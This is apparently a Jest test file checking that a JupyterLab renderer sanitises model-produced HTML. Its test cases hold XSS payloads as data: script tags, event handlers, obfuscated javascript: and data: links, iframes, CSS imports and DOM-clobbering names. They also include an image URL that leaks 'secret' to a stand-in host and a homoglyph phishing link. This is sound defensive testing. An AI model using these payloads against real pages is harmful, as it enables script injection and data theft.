import { Sanitizer } from '@jupyterlab/apputils';
import { RenderMimeRegistry, standardRendererFactories } from '@jupyterlab/rendermime';
import { Widget } from '@lumino/widgets';

import { safe } from './safe';

/** What a page shows of a model's text, which is HTML already: more than a parser of Markdown would leave. */
async function shown(html: string): Promise<HTMLElement> {
  const registry = safe(
    new RenderMimeRegistry({
      initialFactories: standardRendererFactories,
      sanitizer: new Sanitizer(),
      markdownParser: { render: text => Promise.resolve(text) }
    })
  );
  const renderer = registry.createRenderer('text/markdown');
  Widget.attach(renderer, document.body);
  const data = { 'text/markdown': html };
  await renderer.renderModel(registry.createModel({ data, trusted: false }));
  return renderer.node;
}

describe('The text of a model', () => {
  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script in capitals', '<SCRIPT SRC=//elsewhere.test/a.js></SCRIPT>'],
    ['an event handler', '<img src=x onerror=alert(1)><b onmouseover="alert(1)">text</b>'],
    [
      'a frame',
      '<iframe src="https://elsewhere.test" srcdoc="<script>alert(1)</script>"></iframe>'
    ],
    ['a link that runs something', '<a href="javascript:alert(1)">text</a>'],
    ['one that hides it', '<a href=" java&#10;script:alert(1)">text</a>'],
    ['a page of its own', '<a href="data:text/html,<script>alert(1)</script>">text</a>'],
    ['what it was told as a picture', '<img src="https://elsewhere.test/?said=secret" alt="a">'],
    ['a picture of many', '<picture><source srcset="https://elsewhere.test/a"></picture>'],
    [
      'a drawing',
      '<svg><image href="https://elsewhere.test/a"/><use href="//elsewhere.test"/></svg>'
    ],
    [
      'a style that loads',
      '<style>@import "//elsewhere.test"</style><p style="background:url(//elsewhere.test)">'
    ],
    [
      'a form',
      '<form action="https://elsewhere.test"><input name="token"><button>Go</button></form>'
    ],
    [
      'a base for addresses',
      '<base href="https://elsewhere.test/"><meta http-equiv="refresh" content="0;url=//elsewhere.test">'
    ],
    ['a command of JupyterLab', '<b data-commandlinker-command="apputils:reset">text</b>'],
    [
      'names that hide those of the page',
      '<b id="jp-main" name="body">text</b><a name="forms">x</a>'
    ]
  ])('brings no %s along', async (_, html) => {
    const node = await shown(html);
    expect(node.innerHTML).not.toMatch(
      /<script|alert|onerror|onmouse|elsewhere|src=|style=|form|input|button|commandlinker|id=|name=|data:/i
    );
  });

  it('shows where a link leads, and leads there in a tab that knows nothing of this one', async () => {
    const node = await shown('<a href="https://evil.test/?q=1" title="bank">your bank</a>');
    const link = node.querySelector('a');
    expect(link?.textContent).toBe('your bank (https://evil.test/?q=1)');
    expect(link?.rel).toContain('noopener');
    expect(link?.target).toBe('_blank');
    expect(link?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(link?.title).toBe('');
  });

  it('shows an address that looks like another as what it is', async () => {
    const node = await shown('<a href="https://аpple.test/">https://apple.test/</a>');
    expect(node.textContent).toContain('https://xn--pple-43d.test/');
  });

  it('says an address once where it is its own text', async () => {
    const node = await shown('<a href="https://good.test/a">https://good.test/a</a>');
    expect(node.textContent).toBe('https://good.test/a');
  });

  it.each(['/lab/tree/secret', '#top', 'mailto:a@b.test', 'file:///etc/passwd'])(
    'leaves only the words of a link to %s',
    async href => {
      const node = await shown(`<a href="${href}">words</a>`);
      expect(node.querySelector('a')).toBeNull();
      expect(node.textContent).toBe('words');
    }
  );

  it('leaves the words of a picture', async () => {
    const node = await shown('<img src="https://elsewhere.test/a.png" alt="a curve">');
    expect(node.textContent).toBe('a curve');
  });
});
